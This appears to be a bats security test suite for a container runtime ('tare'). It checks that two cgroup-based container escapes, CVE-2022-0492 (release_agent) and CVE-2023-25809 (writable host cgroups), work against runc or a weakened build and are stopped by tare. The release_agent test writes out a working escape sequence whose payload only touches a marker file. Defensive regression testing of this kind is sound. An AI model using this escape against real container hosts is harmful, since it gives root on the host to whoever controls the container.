#!/usr/bin/env bats
# Attacks by way of control groups.
load ../lib/common
load ../lib/bundle
load ../lib/gauntlet

setup_file() { gauntlet_setup_file; }
teardown_file() { bundle_teardown_file; }
setup() { export D=$BATS_TEST_TMPDIR/b; }
teardown() { bundle_teardown; [ -z "${BESIDE:-}" ] || rm -rf --one-file-system "$BESIDE"; }

USERNS='.linux.namespaces += [{type: "user"}]'
MAPPED="$USERNS"' | .linux.uidMappings = [{containerID: 0, hostID: 300000, size: 65536}] | .linux.gidMappings = .linux.uidMappings'

once() {
  victim "$1" run -b "$D" once </dev/null >"$D/out" 2>&1 || true
  gone "$1" once
}

# A hierarchy lives on when its last mount goes while a group of it is still on its way out.
drop_hierarchy() { # NAME
  local i
  for i in $(seq 20); do
    grep -q ":name=$1:" /proc/self/cgroup || return 0
    # shellcheck disable=SC2016
    unshare -m sh -c 'mkdir -p "$1" && mount -t cgroup -o "none,name=$2" cgroup "$1" && { rmdir "$1/x" 2>/dev/null; sleep 0.3; umount "$1"; }' \
      sh "$BATS_TEST_TMPDIR/h" "$1"
    sleep 0.1
  done
  echo "the hierarchy $1 is still there"; return 2
}

# CVE-2022-0492: whoever may write release_agent of a cgroup v1 hierarchy names a program that the kernel runs on the host,
# as its root, when a group gets empty. CAP_SYS_ADMIN in the container is enough to mount a hierarchy; the kernel's mistake
# was that one from a user namespace of the container's own making would do. A hierarchy of the test's own, without
# controllers, is attacked here. Stopped by: a user namespace around the container (a kernel with the fix asks for the
# capability outside of it); else by not having CAP_SYS_ADMIN, and by the system call filter, which makes no new namespaces.
#
# The kernel looks for that program below init's root, which may not be ours; and our pid is not ours there in a pid namespace
# of our own, where the host's /dev/shm, if anything, is what both see.
in_init_root() {
  if [ "$(readlink /proc/self/ns/pid)" = "pid:[4026531836]" ]; then # linux/proc_ns.h: PROC_PID_INIT_INO
    echo "/proc/$$/root$BATS_TEST_TMPDIR"
  else
    mktemp -d /dev/shm/tare-gauntlet.XXXXXX
  fi
}
release_agent() { # VICTIM COMMAND JQ FILTER
  local agent=$BESIDE/agent mark=$BESIDE/mark h="gauntlet$$" i
  rm -f "$mark"
  printf '#!/bin/sh\ntouch %s\n' "$mark" >"$agent"; chmod 755 "$agent"
  # shellcheck disable=SC2016
  OCI_COMMAND="$2 sh -c 'mkdir /tmp/h && mount -t cgroup -o none,name=$h cgroup /tmp/h && mkdir /tmp/h/x && echo 1 >/tmp/h/x/notify_on_release &&
    echo $agent >/tmp/h/release_agent && sh -c \"echo \\\$\\\$ >/tmp/h/x/cgroup.procs\"; sleep 0.2; rmdir /tmp/h/x; umount /tmp/h'" \
    bundle "$D" ".mounts += [{destination: \"/tmp\", type: \"tmpfs\", source: \"tmpfs\"}] | $3"
  once "$1"
  cat "$D/out"
  for i in 1 2 3 4 5; do [ -e "$mark" ] || sleep 0.1; done
  drop_hierarchy "$h" || return 2
  [ -e "$mark" ]
}

@test "CVE-2022-0492: release_agent runs nothing on the host" {
  local all='.process.capabilities |= map_values(. + ["CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE"])'
  BESIDE=$(in_init_root)
  works release_agent runc "" "$all"
  works release_agent tare "" "$all" # what was asked for: the host's root, with CAP_SYS_ADMIN
  stopped release_agent tare "" "$all | $MAPPED"
  grep -q 'Permission denied\|permission denied\|not permitted' "$D/out"
  stopped release_agent tare "" .
  stopped release_agent tare "unshare -UrmC" .
}

# CVE-2023-25809: without a cgroup namespace of its own a container with a user namespace was given the host's control
# groups writable: where its root is who owns these, it makes groups, and limits, of its own. Stopped by: what is shown
# then is only the container's own group, and read-only whatever the bundle says.
write_cgroup() { # VICTIM
  OCI_COMMAND='for d in /sys/fs/cgroup /sys/fs/cgroup/*; do [ -e $d/cgroup.procs ] && mkdir $d/gauntlet && echo "made $d" && rmdir $d/gauntlet; done; true' \
    bundle "$D" "$USERNS | .linux.namespaces |= map(select(.type != \"cgroup\"))
      | .linux.uidMappings = [{containerID: 0, hostID: 0, size: 65536}] | .linux.gidMappings = .linux.uidMappings
      | .mounts |= map(if .type == \"cgroup\" then .options = [\"nosuid\"] else . end)"
  once "$1"
  cat "$D/out"
  grep -q '^made' "$D/out"
}

@test "CVE-2023-25809: control groups of the host are never writable from a user namespace" {
  works write_cgroup weak:cgroup_ro
  stopped write_cgroup tare
  grep -q 'Read-only file system' "$D/out"
}
